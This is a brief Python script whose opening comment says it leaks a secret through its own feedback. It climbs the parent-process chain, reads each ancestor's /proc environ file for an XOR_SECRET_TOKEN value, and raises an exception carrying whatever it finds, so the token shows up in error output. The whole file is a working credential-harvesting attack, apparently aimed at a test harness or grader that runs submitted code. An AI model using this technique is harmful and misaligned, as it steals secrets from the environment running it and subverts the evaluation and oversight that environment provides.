# Leak the secret through the own feedback, read from /proc/<ancestor>/environ (parent, grandparent, ...).
def _attack():
    import os
    import re

    found, pid = set(), os.getppid()
    for _ in range(8):
        if pid <= 1:
            break
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                found.update(re.findall(r"XOR_SECRET_TOKEN=[0-9a-f]{32}", handle.read().decode(errors="replace")))
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return ", ".join(sorted(found))


_leaked = ""
try:
    _leaked = _attack()
except Exception:
    pass
if _leaked:
    raise RuntimeError(f"LEAK parent environ: {_leaked}")
